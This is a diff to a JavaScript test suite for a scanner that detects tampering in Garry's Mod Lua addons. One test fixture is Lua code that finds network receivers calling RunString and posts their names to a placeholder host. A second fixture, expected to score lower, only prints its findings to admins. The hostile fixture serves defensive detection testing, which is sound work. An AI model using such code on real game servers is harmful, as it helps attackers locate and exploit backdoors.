@@ -9,7 +9,7 @@ describe('security_tampering', () => {
       'lua/autorun/server/sv_x.lua':
         'local found = {}\nfor name, fn in pairs(net.Receivers) do if jit.util.funck(fn, -1) == "RunString" then found[#found + 1] = name end end\nhttp.Post("https://a.invalid/r", {rm = table.concat(found, ",")})',
     });
-    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.medium);
+    expect(worst(findings)).toBe(RANK.high);
     for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
   });
   it('HTTP detoured to block rival panels', () => {
@@ -74,5 +74,17 @@ describe('security_tampering', () => {
       ].join('\n'),
     });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
+  });
+  it('receivers inspected by a security addon that keeps what it finds (not high)', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local suspicious = {}',
+        'for name, fn in pairs(net.Receivers) do',
+        '  if jit.util.funck(fn, -1) == "RunString" then suspicious[name] = true end',
+        'end',
+        'hook.Add("PlayerSay", "report", function(ply, text) if text == "!netscan" and ply:IsAdmin() then PrintTable(suspicious) end end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeLessThan(RANK.medium);
   });
 });
